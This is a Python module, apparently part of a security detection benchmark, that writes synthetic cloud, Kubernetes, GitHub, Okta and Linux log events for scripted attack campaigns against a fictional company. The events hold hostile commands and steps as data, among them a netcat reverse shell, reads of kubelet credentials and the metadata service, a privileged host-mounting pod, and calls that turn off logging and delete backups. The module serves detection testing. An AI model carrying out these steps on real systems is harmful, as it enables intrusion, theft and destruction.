# ruff: noqa: E501 - a line is an event
"""Attacks: courses of techniques over the stages of an attack, with changes of identity on the way.

Steps follow published reports of attacks on clouds in their order. Not every attacker does everything: a
step that is not needed for the next one is left out at times; attackers pause, change their address, or
come through the company's own addresses from a laptop that they hold.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta
from random import Random

from benchmarks.campaigns.company import (
    BUCKETS,
    CLUSTERS,
    PROJECTS,
    SERVERS,
    SUBSCRIPTIONS,
    TENANT,
    Company,
    account,
    address,
    app,
    assumed,
    iam_user,
    resource,
    session,
)
from benchmarks.campaigns.logs import Doc, Logs


class Attacker:
    """Where an attack stands: the hour and the address. `next` is the moment of the next step."""

    def __init__(self, company: Company, logs: Logs, random: Random, at: datetime) -> None:
        self.company, self.logs, self.random, self.at = company, logs, random, at
        self.moving = random.random() < 0.3
        """Changes the address with each stage."""
        self.ip = address(random) if random.random() < 0.75 else random.choice(company.offices)
        self.pause = random.randrange(2, 9) if random.random() < 0.3 else 0
        self.steps = 0

    def next(self) -> datetime:
        self.steps += 1
        self.at += timedelta(seconds=60 * 2 ** self.random.uniform(0, 7))
        if self.steps == self.pause:
            self.at += timedelta(hours=self.random.uniform(6, 16))
        return self.at

    def stage(self) -> None:
        if self.moving:
            self.ip = address(self.random)

    def likely(self, chance: float = 0.75) -> bool:
        return self.random.random() < chance

    def aws(self, who: Doc, service: str, name: str, params: Doc | None = None, response: Doc | None = None,
            **more: object) -> None:  # fmt: skip
        self.logs.aws(self.next(), who, self.ip, service, name, params, response, **more)

    def azure(self, who: Doc, operation: str, place: str, body: object = None) -> None:
        self.logs.azure(self.next(), who, self.ip, operation, place, body)

    def gcp(self, project: str, who: Doc, service: str, method: str, place: str, **more: object) -> None:
        self.logs.gcp(self.next(), project, who, self.ip, service, method, place, **more)

    def kubernetes(self, cluster: str, who: str, ip: str, verb: str, where: Doc, body: Doc | None = None,
                   **more: object) -> None:  # fmt: skip
        self.logs.kubernetes(self.next(), cluster, who, ip, verb, where, body, **more)


Course = Callable[[Attacker], None]


def run(company: Company, logs: Logs, random: Random, number: int, at: datetime) -> None:
    """One attack; numbers go round all courses."""
    COURSES[number % len(COURSES)](Attacker(company, logs, random, at))


def leaked_key(a: Attacker) -> None:
    """A key from a repository: look around, read secrets, make a user of one's own, blind, take away."""
    account, victim = a.random.choice(a.company.accounts), a.random.choice(a.company.people)
    who = iam_user(account, victim.name)
    if a.likely(0.6):
        a.aws(who, "sts", "GetCallerIdentity", agent="TruffleHog")
    for name in a.random.sample(
        ["ListUsers", "ListRoles", "GetRole", "ListAccountAliases"], a.random.randrange(1, 4)
    ):
        a.aws(who, "iam", name, errorCode="AccessDenied")
    if a.likely():
        a.aws(who, "ses", "GetSendQuota")
    if a.likely():
        filters = [{"key": "tag-key", "values": ["!none"]}] if a.likely(0.4) else []
        a.aws(who, "secretsmanager", "BatchGetSecretValue", {"filters": filters})
    a.stage()
    own = _persist(a, who)
    a.stage()
    _blind(a, own)
    _take_away(a, own)


def _persist(a: Attacker, who: Doc) -> Doc:
    """A user, or a key of another one, that the attacker goes on with."""
    account = who["accountId"]
    if a.likely(0.6):
        name = a.random.choice(["backup-svc", "aws-support", "s3-sync", "monitor2"])
        a.aws(who, "iam", "CreateUser", {"userName": name}, {"user": {"userName": name}})
    else:
        name = a.random.choice(a.company.admins).name
    key = f"AKIA{a.random.randrange(10**15)}"
    response = {"accessKey": {"accessKeyId": key, "userName": name}}
    a.aws(who, "iam", "CreateAccessKey", {"userName": name}, response)
    if a.likely():
        policy = "arn:aws:iam::aws:policy/AdministratorAccess"
        a.aws(who, "iam", "AttachUserPolicy", {"userName": name, "policyArn": policy})
    return iam_user(account, name, key)


def _blind(a: Attacker, who: Doc) -> None:
    for service, name, params in a.random.sample(
        [("cloudtrail", "StopLogging", {"name": "main"}), ("guardduty", "DeleteDetector", {"detectorId": "d1"}),
         ("ec2", "DeleteFlowLogs", {}), ("cloudtrail", "PutEventSelectors",
                                         {"eventSelectors": [{"includeManagementEvents": False}]})],
        a.random.randrange(1, 3),
    ):  # fmt: skip
        a.aws(who, service, name, params)


def _take_away(a: Attacker, who: Doc) -> None:
    snapshot, stranger = f"snap-{a.random.randrange(16**8):08x}", str(a.random.randrange(10**11, 10**12))
    bucket = a.random.choice(BUCKETS)
    shared = {"snapshotId": snapshot, "createVolumePermission": {"add": {"items": [{"userId": stranger}]}}}
    public = {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]}
    for service, name, params in a.random.sample(
        [("ec2", "ModifySnapshotAttribute", {**shared, "attributeType": "CREATE_VOLUME_PERMISSION"}),
         ("rds", "ModifyDBSnapshotAttribute",
          {"dBSnapshotIdentifier": "orders", "attributeName": "restore", "valuesToAdd": [stranger]}),
         ("s3", "PutBucketPolicy", {"bucketName": bucket, "bucketPolicy": public}),
         ("s3", "DeleteObjects", {"bucketName": bucket})],
        a.random.randrange(1, 4),
    ):  # fmt: skip
        a.aws(who, service, name, params)


def console(a: Attacker) -> None:
    """A guessed password, a sign-in without a second factor, a role, then the databases."""
    victim = a.random.choice(a.company.people)
    who = a.company.user(victim)
    login: Doc = {"agent": "Mozilla/5.0", "eventType": "AwsConsoleSignIn"}
    for _ in range(a.random.randrange(11, 16)):
        a.at += timedelta(seconds=a.random.uniform(2, 30))
        a.logs.aws(a.at, who, a.ip, "signin", "ConsoleLogin", None, {"ConsoleLogin": "Failure"}, **login)
    a.logs.aws(a.next(), who, a.ip, "signin", "ConsoleLogin", None, {"ConsoleLogin": "Success"},
               additionalEventData={"MFAUsed": "No"}, **login)  # fmt: skip
    if a.likely():
        a.aws(who, "ec2", "DescribeSecurityGroups", agent="console.ec2.amazonaws.com")
    role = a.random.choice(["admin", "dba"])
    worn, call = assumed(who, role, a.random.choice([victim.name, "botocore-session"]), a.random)
    a.aws(who, "sts", "AssumeRole", **call)
    a.stage()
    if a.likely():
        a.aws(worn, "rds", "DescribeDBSnapshots", {"includePublic": True})
    a.aws(worn, "rds", "ModifyDBInstance", {"dBInstanceIdentifier": "db-2", "masterUserPassword": "****"})
    if a.likely():
        a.aws(worn, "rds", "ModifyDBInstance", {"dBInstanceIdentifier": "db-2", "publiclyAccessible": True})
    _take_away(a, worn)


def instance(a: Attacker) -> None:
    """The credentials of a machine, taken through a hole in a page, used from elsewhere."""
    machine = f"i-{a.random.randrange(60):017x}"
    who = session(a.random.choice(a.company.accounts), "web-instance", machine, a.random)
    if a.ip in a.company.offices:
        a.ip = address(a.random)
    a.aws(who, "s3", "ListBuckets")
    if a.likely():
        a.aws(who, "ec2", "DescribeInstanceAttribute", {"instanceId": machine, "attribute": "userData"})
    if a.likely():
        a.aws(who, "iam", "GetGroup", {"groupName": "admins"})
    worn = who
    if a.likely(0.7):
        worn, call = assumed(who, "deploy-legacy", machine, a.random)
        a.aws(who, "sts", "AssumeRole", **call)
        a.stage()
    a.aws(worn, "lambda", "UpdateFunctionCode20150331v2", {"functionName": f"fn-{a.random.randrange(9)}"})
    a.aws(worn, "secretsmanager", "BatchGetSecretValue", {"filters": []})
    if a.likely():
        worn = _persist(a, worn)
    _take_away(a, worn)


def ransom(a: Attacker) -> None:
    """A pipeline's or operations' key: protections go, objects go, a note stays."""
    account = a.random.choice(a.company.accounts)
    who = a.company.shared(account) if a.likely(0.5) else session(account, "ci-deploy", "run-1", a.random)
    bucket = a.random.choice(BUCKETS)
    suspended = {"bucketName": bucket, "VersioningConfiguration": {"Status": "Suspended"}}
    a.aws(who, "ec2", "DescribeSecurityGroups")
    if a.likely():
        a.aws(who, "sts", "GetSessionToken", {})
    _blind(a, who)
    a.aws(who, "s3", "PutBucketVersioning", suspended)
    if a.likely():
        a.aws(who, "s3", "DeleteBucketReplication", {"bucketName": bucket})
    if a.likely():
        a.aws(who, "rds", "DeleteDBInstanceAutomatedBackup", {"dBInstanceIdentifier": "db-1"})
    a.aws(who, "s3", "DeleteObjects", {"bucketName": bucket})
    if a.likely(0.6):
        a.aws(who, "kms", "ScheduleKeyDeletion", {"keyId": f"k-{a.random.randrange(30)}"})
    a.aws(who, "s3", "PutObject", {"bucketName": bucket, "key": "HOW_TO_DECRYPT_FILES.txt"})


def entra_app(a: Attacker) -> None:
    """Sprayed passwords, one fits; a secret for an application, and on as that application."""
    victim = a.random.choice(a.company.people)
    for person in a.random.sample(a.company.people, 14):
        a.at += timedelta(seconds=a.random.uniform(5, 60))
        a.logs.signin(a.at, TENANT, person.azure, a.ip, 50126)
    a.logs.signin(a.next(), TENANT, victim.azure, a.ip, 0, riskState="atRisk")
    name = f"app-{a.random.randrange(30)}"
    who = app(name)
    target = {"type": "Application", "displayName": name, "id": who["claims"]["appid"]}
    a.logs.entra(
        a.next(),
        TENANT,
        victim.azure,
        a.ip,
        "Update application – Certificates and secrets management ",
        target,
    )
    a.stage()
    sub = a.random.choice(SUBSCRIPTIONS)
    place = f"shop-{a.random.randrange(20)}"
    if a.likely():
        body = {"properties": {"roleDefinitionId": "/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635"}}
        a.azure(who, "Microsoft.Authorization/roleAssignments/write", f"/subscriptions/{sub}", body)
    _azure_harm(a, who, sub, place)


def _azure_harm(a: Attacker, who: Doc, sub: str, place: str) -> None:
    storage = resource(sub, "Microsoft.Storage/storageAccounts", place)
    machine = resource(sub, "Microsoft.Compute/virtualMachines", place)
    if a.likely():
        a.azure(who, "Microsoft.Insights/diagnosticSettings/delete", storage)
    if a.likely():
        a.azure(who, "Microsoft.Compute/virtualMachines/runCommand/action", machine)
    a.azure(who, "Microsoft.Storage/storageAccounts/listKeys/action", storage)
    if a.likely():
        a.azure(who, "Microsoft.Storage/storageAccounts/write", storage,
                {"properties": {"networkAcls": {"defaultAction": "Allow"}}})  # fmt: skip
    a.azure(
        who, "Microsoft.Compute/disks/beginGetAccess/action", resource(sub, "Microsoft.Compute/disks", place)
    )


def azure_owner(a: Attacker) -> None:
    """An administrator's session: all rights, the vaults, then backups and vaults are destroyed."""
    who = a.random.choice(a.company.admins).azure
    sub = a.random.choice(SUBSCRIPTIONS)
    vault = resource(sub, "Microsoft.KeyVault/vaults", f"kv-{a.random.randrange(8)}")
    if a.likely():
        a.logs.signin(a.next(), TENANT, who, a.ip, 0, riskState="atRisk")
    if a.likely(0.6):
        a.azure(who, "Microsoft.Authorization/elevateAccess/action", f"/subscriptions/{sub}")
    a.azure(who, "Microsoft.Authorization/roleDefinitions/write", f"/subscriptions/{sub}/roles/r1")
    a.stage()
    a.azure(who, "Microsoft.KeyVault/vaults/accessPolicies/write", vault)
    a.logs.vault(a.next(), who, a.ip, "SecretList", vault, "")
    for number in range(a.random.randrange(2, 30)):
        a.at += timedelta(seconds=a.random.uniform(1, 9))
        a.logs.vault(a.at, who, a.ip, "SecretGet", vault, f"s{number}")
    a.stage()
    if a.likely():
        a.azure(who, "Microsoft.Insights/diagnosticSettings/delete", vault)
    protected = "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete"
    a.azure(who, protected, resource(sub, "Microsoft.RecoveryServices/vaults", "backup-1"))
    if a.likely():
        a.azure(who, "Microsoft.KeyVault/vaults/delete", vault)


def impersonated(a: Attacker) -> None:
    """A key of a service account in Google Cloud; another account is worn, and a third gets a key."""
    project = a.random.choice(PROJECTS)
    who = account(project, a.random.choice(["backup", "ci", "etl"]))
    for method in a.random.sample(["GetIamPolicy", "ListServiceAccounts", "GetIamPolicy"], 2):
        a.gcp(project, who, "iam", method, f"projects/{project}")
    other = account(project, a.random.choice(["terraform", "owner-job"]))
    granted = [{"permission": "iam.serviceAccounts.getAccessToken", "granted": True}]
    mail = other["principalEmail"]
    a.gcp(project, who, "iamcredentials", "GenerateAccessToken", f"projects/-/serviceAccounts/{mail}",
          authorizationInfo=granted)  # fmt: skip
    a.stage()
    worn: Doc = other
    if a.likely(0.6):
        delegation = [{"firstPartyPrincipal": who}]
        worn = {**other, "serviceAccountDelegationInfo": delegation}
    if a.likely():
        delta = {
            "policyDelta": {
                "bindingDeltas": [
                    {"action": "ADD", "role": "roles/owner", "member": f"serviceAccount:{mail}"}
                ]
            }
        }
        a.gcp(project, worn, "cloudresourcemanager", "SetIamPolicy", f"projects/{project}", serviceData=delta)
    if a.likely():
        third = account(project, f"job{a.random.randrange(20)}")["principalEmail"]
        a.gcp(
            project,
            worn,
            "iam",
            "google.iam.admin.v1.CreateServiceAccountKey",
            f"projects/-/serviceAccounts/{third}",
        )
        worn = {"principalEmail": third}
    a.stage()
    a.gcp(
        project,
        worn,
        "logging",
        "google.logging.v2.ConfigServiceV2.DeleteSink",
        f"projects/{project}/sinks/main",
    )
    method = "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion"
    for number in range(a.random.choice([2, 12])):
        a.at += timedelta(seconds=a.random.uniform(1, 20))
        a.logs.gcp(
            a.at,
            project,
            worn,
            a.ip,
            "secretmanager",
            method,
            f"projects/{project}/secrets/s{number}/versions/1",
        )
    bucket = f"projects/_/buckets/{a.random.choice(BUCKETS)}"
    delta = {
        "policyDelta": {
            "bindingDeltas": [{"action": "ADD", "member": "allUsers", "role": "roles/storage.objectViewer"}]
        }
    }
    a.gcp(project, worn, "storage", "storage.setIamPermissions", bucket, serviceData=delta)


def escape(a: Attacker) -> None:
    """A shell in a container, its token, a pod that sees the node, the node, coins."""
    cluster, random = a.random.choice(CLUSTERS), a.random
    space, pod = a.company.pod(random)
    node, image = random.choice(a.company.nodes[cluster]), f"larchlane/{space}"
    a.logs.falco(a.next(), node, "Run shell untrusted", pod, image, "sh -c id", "www-data")
    if a.likely():
        a.logs.falco(
            a.next(),
            node,
            "Netcat Remote Code Execution in Container",
            pod,
            image,
            f"nc -e /bin/sh {a.ip} 443",
            "www-data",
        )
    if a.likely():
        a.logs.falco(
            a.next(),
            node,
            "Contact cloud metadata service from container",
            pod,
            image,
            "curl 169.254.169.254",
        )
    if a.likely():
        a.logs.falco(
            a.next(), node, "Contact K8S API Server From Container", pod, image, "kubectl get secrets"
        )
    who = f"system:serviceaccount:{space}:{pod.rsplit('-', 1)[0]}"
    inside = f"10.1.{random.randrange(1, 9)}.{random.randrange(2, 250)}"
    outside = a.ip if a.likely(0.5) else inside
    a.kubernetes(cluster, who, outside, "create", {"resource": "selfsubjectrulesreviews"})
    a.kubernetes(cluster, who, outside, "list", {"resource": "secrets", "namespace": space})
    new = f"debug-{random.randrange(16**5):05x}"
    body = {"spec": {"nodeName": node, "hostPID": True, "volumes": [{"hostPath": {"path": "/"}}],
                     "containers": [{"image": "alpine", "securityContext": {"privileged": True}}]}}  # fmt: skip
    a.kubernetes(cluster, who, outside, "create", {"resource": "pods", "namespace": space, "name": new}, body)
    if a.likely():
        where = {"resource": "pods", "subresource": "exec", "namespace": space, "name": new}
        a.kubernetes(cluster, who, outside, "create", where)
    a.logs.falco(a.next(), node, "Read kubelet kubeconfig", new, "alpine", "cat /var/lib/kubelet/kubeconfig")
    if a.likely(0.6):
        a.logs.linux(
            a.next(), node, "useradd", "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash"
        )
    if a.likely():
        a.logs.falco(
            a.next(),
            node,
            "Detect crypto miners using the Stratum protocol",
            new,
            "alpine",
            "./xm -o stratum+tcp://p:3333",
        )
    if a.likely(0.4):
        where = {"resource": "events", "namespace": space}
        a.kubernetes(cluster, who, outside, "deletecollection", where)


def pipeline(a: Attacker) -> None:
    """A developer's account in GitHub, the pipeline's rights in the cluster, rights over everything."""
    victim, cluster = a.random.choice(a.company.people), a.random.choice(CLUSTERS)
    repository = {"repo": f"larchlane/r{a.random.randrange(30)}"}
    if a.likely():
        a.logs.github(a.next(), victim.name, a.ip, "public_key.create", **repository)
    a.logs.github(a.next(), victim.name, a.ip, "protected_branch.destroy", **repository)
    if a.likely(0.6):
        a.logs.github(a.next(), victim.name, a.ip, "repository_secret_scanning.disable", **repository)
    a.logs.github(a.next(), victim.name, a.ip, "repo.register_self_hosted_runner", **repository)
    a.stage()
    who = victim.mail if a.likely(0.5) else "system:serviceaccount:ci:deployer"
    a.kubernetes(cluster, who, a.ip, "create", {"resource": "selfsubjectrulesreviews"})
    a.kubernetes(cluster, who, a.ip, "list", {"resource": "secrets", "namespace": "pay"})
    name = f"node-sync-{a.random.randrange(999)}"
    body = {"roleRef": {"name": "cluster-admin"}, "subjects": [{"kind": "ServiceAccount", "name": "default"}]}
    a.kubernetes(cluster, who, a.ip, "create", {"resource": "clusterrolebindings", "name": name}, body)
    if a.likely():
        where = {
            "resource": "serviceaccounts",
            "subresource": "token",
            "namespace": "kube-system",
            "name": "default",
        }
        a.kubernetes(cluster, who, a.ip, "create", where)
        who = "system:serviceaccount:kube-system:default"
    if a.likely():
        image = {"spec": {"containers": [{"image": "hub/xmrig:6"}]}}
        a.kubernetes(
            cluster,
            who,
            a.ip,
            "create",
            {"resource": "pods", "namespace": "kube-system", "name": name},
            image,
        )
    a.kubernetes(cluster, who, a.ip, "deletecollection", {"resource": "events", "namespace": "kube-system"})


def host(a: Attacker) -> None:
    """A guessed password by SSH, a user that stays, on to the next host."""
    first, second = a.random.sample(SERVERS, 2)
    user = a.random.choice(["deploy", "oracle", "test"])
    if a.ip in a.company.offices:
        a.ip = address(a.random)
    for _ in range(a.random.randrange(12, 25)):
        a.at += timedelta(seconds=a.random.uniform(1, 12))
        a.logs.linux(a.at, first, "sshd", f"Failed password for {user} from {a.ip} port 5022 ssh2")
    a.logs.linux(a.next(), first, "sshd", f"Accepted password for {user} from {a.ip} port 5022 ssh2")
    if a.likely():
        a.logs.linux(
            a.next(),
            first,
            "sudo",
            f"{user} : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
        )
    name = a.random.choice(["sysd", "dbus2", "mysqlx"])
    a.logs.linux(
        a.next(),
        first,
        "useradd",
        f"new user: name={name}, UID=1200, GID=1200, home=/var/tmp, shell=/bin/bash",
    )
    a.logs.linux(a.next(), first, "usermod", f"add '{name}' to group 'sudo'")
    inside = f"10.0.{a.random.randrange(1, 4)}.{a.random.randrange(10, 250)}"
    a.logs.linux(a.next(), second, "sshd", f"Accepted password for {name} from {inside} port 5022 ssh2")
    if a.likely():
        a.logs.linux(a.next(), second, "sshd", f"Accepted password for root from {inside} port 5022 ssh2")
    a.logs.linux(
        a.next(),
        second,
        "useradd",
        f"new user: name={name}, UID=1201, GID=1201, home=/var/tmp, shell=/bin/bash",
    )


def single_sign_on(a: Attacker) -> None:
    """A user of single sign-on without a second factor, administrator, and by it into AWS and GitHub."""
    victim, account = a.random.choice(a.company.people), a.random.choice(a.company.accounts)
    for person in a.random.sample(a.company.people, 12 if a.likely(0.5) else 2):
        a.at += timedelta(seconds=a.random.uniform(5, 60))
        a.logs.okta(a.at, person.mail, a.ip, "user.session.start", result="FAILURE")
    a.logs.okta(a.next(), victim.mail, a.ip, "user.mfa.factor.reset_all", victim.mail)
    a.logs.okta(a.next(), victim.mail, a.ip, "user.account.privilege.grant", victim.mail)
    if a.likely():
        a.logs.okta(a.next(), victim.mail, a.ip, "system.api_token.create")
    a.stage()
    who = session(account, "sso-engineer", victim.mail, a.random)
    a.aws(who, "ec2", "DescribeSecurityGroups")
    a.aws(who, "secretsmanager", "BatchGetSecretValue", {"filters": []})
    worn, call = assumed(who, "admin", victim.mail, a.random)
    a.aws(who, "sts", "AssumeRole", **call)
    _blind(a, worn)
    if a.likely(0.5):
        a.logs.github(a.next(), victim.name, a.ip, "repo.access", repo="larchlane/r1", visibility="public")
    _take_away(a, worn)


COURSES: tuple[Course, ...] = (
    leaked_key,
    entra_app,
    escape,
    console,
    impersonated,
    host,
    instance,
    azure_owner,
    pipeline,
    ransom,
    single_sign_on,
)
